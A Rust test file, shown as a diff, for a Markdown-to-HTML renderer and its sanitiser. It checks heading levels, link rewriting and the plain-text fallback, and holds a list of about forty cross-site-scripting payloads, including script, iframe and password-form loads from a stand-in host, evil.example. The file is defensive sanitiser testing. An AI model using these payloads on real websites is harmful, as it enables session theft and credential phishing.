@@ -1,0 +1,189 @@
+use super::*;
+
+const HERE: Location<'_> = Location {
+    repository: "https://github.com/minvws/example",
+    branch: Some("main"),
+    path: "docs/README.md",
+};
+
+fn html(markdown: &str) -> String {
+    to_html(markdown, &HERE)
+}
+
+#[test]
+fn markdown_becomes_html_below_the_pages_own_headings() {
+    assert_eq!(
+        html("# Title\n\n## Part\n\n<h1 align=\"center\">Raw</h1>\n\n##### Deep\n"),
+        "<h3>Title</h3>\n<h4>Part</h4>\n<h3>Raw</h3>\n<h6>Deep</h6>\n"
+    );
+}
+
+#[test]
+fn links_lead_to_the_forge() {
+    let cases = [
+        ("[a](https://example.org/x)", "https://example.org/x"),
+        (
+            "[a](guide.md)",
+            "https://github.com/minvws/example/blob/main/docs/guide.md",
+        ),
+        (
+            "[a](../LICENSE)",
+            "https://github.com/minvws/example/blob/main/LICENSE",
+        ),
+        (
+            "[a](/src/main.rs)",
+            "https://github.com/minvws/example/blob/main/src/main.rs",
+        ),
+        (
+            "[a](#install)",
+            "https://github.com/minvws/example/blob/main/docs/README.md#install",
+        ),
+        ("[a](//example.org/x)", "https://example.org/x"),
+        ("[a](mailto:a@example.org)", "mailto:a@example.org"),
+    ];
+    for (markdown, expected) in cases {
+        let html = html(markdown);
+        assert!(html.contains(&format!("href=\"{expected}\"")), "{html}");
+        assert!(
+            html.contains("rel=\"nofollow noopener noreferrer\""),
+            "{html}"
+        );
+    }
+    let gitlab = Location {
+        repository: "https://gitlab.com/group/sub/name",
+        branch: None,
+        path: "README.md",
+    };
+    let html = to_html("[a](x.md)", &gitlab);
+    assert!(
+        html.contains("https://gitlab.com/group/sub/name/-/blob/HEAD/x.md"),
+        "{html}"
+    );
+}
+
+#[test]
+fn images_give_way_to_their_alternative_texts() {
+    assert_eq!(
+        html("![A *chart*](https://example.org/x.png)"),
+        "<p>A chart</p>\n"
+    );
+    assert_eq!(
+        html("a <img src=x alt='1 < 2 & \"b\"' onerror=alert(1)> b <img src=y> c"),
+        "<p>a 1 &lt; 2 &amp; \"b\" b  c</p>\n"
+    );
+}
+
+#[test]
+fn what_is_no_markdown_is_shown_as_it_is() {
+    let plain = Location {
+        path: "README.rst",
+        ..HERE
+    };
+    let html = to_html("Title\n=====\n<script>x</script> *a*", &plain);
+    assert_eq!(
+        html,
+        "<pre>Title\n=====\n&lt;script&gt;x&lt;/script&gt; *a*</pre>"
+    );
+}
+
+/// What attackers write, each in a form that some sanitiser let through once.
+const ATTACKS: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"java\nscript:alert(1)\">x</a>",
+    "<a href=\" &#106;avascript:alert(1)\">x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox)",
+    "![x](javascript:alert(1))",
+    "![\"><script>alert(1)</script>](x)",
+    "<img alt=\"><script>alert(1)</script>\">",
+    "<img alt='\"><script>alert(1)</script>'>",
+    "<img alt=\"<h1 onclick=alert(1)>\">",
+    "<a title=\"<h1>\" href=x>y</a>",
+    "<iframe src=https://evil.example></iframe>",
+    "<object data=x></object><embed src=x>",
+    "<form action=https://evil.example><input name=password><button>Go</button></form>",
+    "<base href=https://evil.example>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>body{background:url(https://evil.example)}</style>",
+    "<p style=\"background:url(https://evil.example)\" class=bw-header id=content>x</p>",
+    "<nav><main><header><footer><aside>landmarks</aside></footer></header></main></nav>",
+    "<div onclick=alert(1) onmouseover=alert(1)>x</div>",
+    "<video src=https://evil.example autoplay></video><audio src=x></audio>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<picture><source srcset=https://evil.example/x.png><img src=y alt=z></picture>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+    "<!-- --><script>alert(1)</script> -->",
+    "<x onclick=alert(1)>y</x>",
+];
+
+/// Opening tags in the HTML, as the name and the rest of the tag.
+fn tags(html: &str) -> Vec<(String, String)> {
+    html.split('<')
+        .skip(1)
+        .filter(|tag| !tag.starts_with('/'))
+        .map(|tag| {
+            let tag = tag.split('>').next().unwrap_or_default();
+            let (name, rest) = tag.split_once(' ').unwrap_or((tag, ""));
+            (name.to_lowercase(), rest.to_lowercase())
+        })
+        .collect()
+}
+
+fn assert_harmless(source: &str) {
+    let html = html(source);
+    for (name, attributes) in tags(&html) {
+        assert!(
+            TAGS.contains(&name.as_str()) && name != "img",
+            "{name}: {html}"
+        );
+        for forbidden in ["src=", "style=", "class=", " id=", "srcset="] {
+            let attributes = format!(" {attributes}");
+            // Quoted words are text, not attributes.
+            let bare: String = attributes.split('"').step_by(2).collect();
+            assert!(!bare.contains(forbidden), "{forbidden} in {html}");
+            assert!(!bare.contains(" on"), "{html}");
+        }
+        assert!(!attributes.contains("href=\"javascript"), "{html}");
+        assert!(!attributes.contains("href=\"data"), "{html}");
+    }
+    // A second look by the sanitiser finds nothing left to take away.
+    let again = sanitiser(&HERE).clean(&html).to_string();
+    assert_eq!(again, html, "from {source}");
+}
+
+#[test]
+fn attacks_come_out_harmless() {
+    for attack in ATTACKS {
+        assert_harmless(attack);
+        assert_harmless(&format!(
+            "# A\n\n> - text {attack} more\n\n| a |\n|---|\n| {attack} |\n"
+        ));
+    }
+}
+
+proptest::proptest! {
+    #[test]
+    fn any_mixture_of_attacks_comes_out_harmless(
+        parts in proptest::collection::vec(
+            (proptest::sample::select(ATTACKS), "[<>\"'&/a-h1-6 =\\n#\\[\\]()!`-]{0,12}"),
+            0..5,
+        ),
+    ) {
+        let source: String = parts
+            .into_iter()
+            .flat_map(|(attack, noise)| [noise, attack.to_owned()])
+            .collect();
+        assert_harmless(&source);
+    }
+}
